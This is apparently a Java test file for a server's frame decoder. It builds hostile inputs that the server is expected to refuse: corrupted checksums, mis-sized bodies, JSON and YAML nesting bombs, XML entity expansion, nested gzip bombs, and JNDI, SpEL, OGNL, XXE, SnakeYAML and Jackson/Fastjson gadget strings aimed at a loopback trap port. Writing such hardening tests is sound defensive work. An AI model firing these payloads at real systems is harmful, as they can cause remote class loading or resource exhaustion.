package io.bianque.server.e2e.hostile;

import static io.bianque.server.e2e.hostile.Raw.MARK;
import static io.bianque.server.e2e.hostile.Raw.any;
import static io.bianque.server.e2e.hostile.Raw.eventBody;
import static io.bianque.server.e2e.hostile.Raw.joined;
import static io.bianque.server.e2e.hostile.Raw.utf8;

import io.bianque.server.e2e.hostile.Attack.Ending;
import io.bianque.server.e2e.hostile.Attack.Outcome;
import io.bianque.testkit.Mutations;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import java.util.random.RandomGenerator;
import java.util.zip.GZIPOutputStream;

/** C13 to C18: bodies that are not what their header says, or that aim at something behind the decoder. */
final class BodyRows {
    private BodyRows() {}

    /** C13: digests. */
    static Attack c13(RandomGenerator random) {
        var body = eventBody(MARK);
        var right = Raw.crc32c(body);
        if (random.nextBoolean()) {
            body[random.nextInt(body.length)] ^= (byte) (1 << random.nextInt(8));
            return Attack.frameRefused("C13", "one bit other than its digest",
                    Raw.event(1, "\"crc32c\":\"" + right + "\",", body), "checksum", "not_utf8", "bad_json");
        }
        var wrong = any(random, "\"" + right.substring(1) + "\"", "\"" + right + "0\"", "\"\"", "null", "0",
                "\"" + right.substring(0, 7) + "G\"", "\"0x" + right.substring(2) + "\"",
                "\" " + right.substring(1) + "\"");
        return Attack.refused("C13", "digest " + wrong, true, Raw.event(1, "\"crc32c\":" + wrong + ",", body),
                "out_of_range", "wrong_type");
    }

    /** C14: what follows a body of another size than announced, and what follows a frame that was refused. */
    static Attack c14(RandomGenerator random) {
        if (random.nextBoolean()) {
            return Attack.frameRefused("C14", "a frame behind a refused one",
                    joined(Raw.event(1, "", utf8("{\"kind\":\"Bad Kind\",\"time\":1}")), Raw.event(2), Raw.event(3)),
                    "out_of_range");
        }
        var body = utf8("{\"software\":\"s/1\"}");
        int declared = random.nextInt(body.length);
        var hello = Raw.hello("size", random.nextLong(), "", "x".repeat(declared));
        var head = new byte[hello.length - declared];
        System.arraycopy(hello, 0, head, 0, head.length);
        return Attack.refused("C14", "a body longer than its size by " + (body.length - declared), false,
                joined(head, body, Raw.noise(random, 4_200)), "bad_json", "header_length", "identity", "not_utf8",
                "missing_key");
    }

    /** C15: bombs in bodies. */
    static Attack c15(RandomGenerator random) {
        int levels = 9 + random.nextInt(100_000);
        var body = switch (random.nextInt(6)) {
            case 0 -> "{\"kind\":\"" + MARK + "\",\"time\":1,\"x\":" + "[".repeat(levels) + "]".repeat(levels) + "}";
            case 1 -> "{\"kind\":\"" + MARK + "\",\"time\":1,\"x\":" + "{\"a\":".repeat(levels);
            case 2 -> "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"" + "a".repeat(1_000)
                    + "\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><l>&b;</l>";
            case 3 -> "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nkind: *b\n";
            case 4 -> "{\"kind\":\"" + MARK + "\",\"time\":1" + "0".repeat(levels) + "}";
            default -> "{\"kind\":\"" + MARK + "\",\"time\":1e" + levels + ",\"x\":\"" + "\\u0041".repeat(100) + "\"}";
        };
        return Attack.frameRefused("C15", body.substring(0, 40), Raw.event(1, "", utf8(body)), "too_deep", "bad_json",
                "out_of_range", "wrong_type");
    }

    /** C16: whole sessions with changes at random: whatever is still right may be taken, nothing may break. */
    static Attack c16(RandomGenerator random) {
        var kind = "mutated";
        var sessions = List.of(joined(Raw.series("{\"series\":[{\"id\":1,\"metric\":\"m\",\"labels\":{\"a\":\"b\"}}]}"),
                Raw.numbered("samples", 1, 1, "\"enc\":\"json\",", utf8("{\"samples\":[[1,1000,2.5]]}")), Raw.ping()),
                joined(Raw.event(1, "", eventBody(kind)), Raw.event(2, "", eventBody(kind))),
                joined(Raw.numbered("samples", 1, 1, "", new byte[]{0x40, 1, 1, 0, 2, 3, 5}), Raw.ping()),
                joined(Raw.header("{\"type\":\"gap\",\"size\":0,\"lane\":2,\"seq\":1,\"wall\":1,\"mono\":1,\"from\":1,"
                        + "\"to\":9,\"reason\":\"expired\"}"),
                        Raw.header("{\"type\":\"bye\",\"size\":0,\"reason\":\"x\"}")));
        return new Attack("C16", "a mutated session", true, List.of(Mutations.of(sessions, random)),
                random.nextBoolean() ? Ending.END : Ending.RESET, Outcome.CLOSED, Set.of());
    }

    /** C17: compression that nobody announced: bombs, nested, cut. {@link ZipRows} has those that did. */
    static Attack c17(RandomGenerator random) {
        var bomb = gzip(new byte[1 << 20]);
        if (random.nextBoolean()) {
            bomb = gzip(bomb);
        }
        int length = random.nextBoolean() ? bomb.length : 1 + random.nextInt(bomb.length);
        var body = Arrays.copyOf(bomb, length);
        var zip = any(random, "\"zstd\"", "\"gzip\"", "\"deflate\"", "\"br\"", "\"ZSTD\"", "\"\"", "null", "1");
        var raw = any(random, "", "\"raw\":" + (8 << 20) + ",", "\"raw\":" + length * 99L + ",",
                "\"raw\":" + (1L << 40) + ",", "\"raw\":-1,", "\"raw\":\"1\",");
        return Attack.refused("C17", "zip " + zip + " " + raw, true,
                Raw.event(1, "\"zip\":" + zip + "," + raw, body), "not_announced", "missing_key", "unpacked_too_long",
                "out_of_range", "wrong_type");
    }

    private static byte[] gzip(byte[] bytes) {
        var packed = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(packed)) {
            out.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    /**
     * C18: texts that make careless programs look up names, load classes, fetch entities.
     *
     * @param trap the port of a listener that nobody may ever connect to
     */
    static Attack c18(RandomGenerator random, int trap) {
        var at = "127.0.0.1:" + trap + "/" + Long.toString(random.nextLong() >>> 1, 36);
        var text = any(random, "${jndi:ldap://" + at + "}", "${${lower:j}ndi:rmi://" + at + "}",
                "${jndi:dns://" + at + "}", "#{T(java.net.URI).create('http://" + at + "').toURL().openStream()}",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [http://" + at + "]]]]",
                "<!DOCTYPE a [<!ENTITY e SYSTEM 'http://" + at + "'>]><a>&e;</a>", "%{(#a=@java.net.URL@new('http://"
                        + at + "'))}",
                "http://" + at);
        var typed = any(random, "[\"java.net.URL\",\"http://" + at + "\"]",
                "{\"@class\":\"java.net.URL\",\"val\":\"http://" + at + "\"}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://" + at
                        + "\",\"autoCommit\":true}");
        return switch (random.nextInt(5)) {
            case 0 -> Attack.refused("C18", "as a type: " + text, random.nextBoolean(),
                    Raw.header("{\"type\":\"" + text + "\",\"size\":0}"), "unknown_type", "out_of_range");
            case 1 -> Attack.refused("C18", "as a name: " + text, false, Raw.hello(text, random.nextLong()), "identity",
                    "out_of_range");
            case 2 -> Attack.frameRefused("C18", "as a kind: " + typed,
                    Raw.event(1, "", utf8("{\"kind\":" + typed + ",\"time\":1}")), "wrong_type");
            case 3 -> Attack.frameRefused("C18", "as a kind: " + text,
                    Raw.event(1, "", utf8("{\"kind\":\"" + text + "\",\"time\":1}")), "out_of_range");
            default -> Attack.frameRefused("C18", "as a body: " + text, Raw.event(1, "", utf8(text)), "bad_json");
        };
    }
}
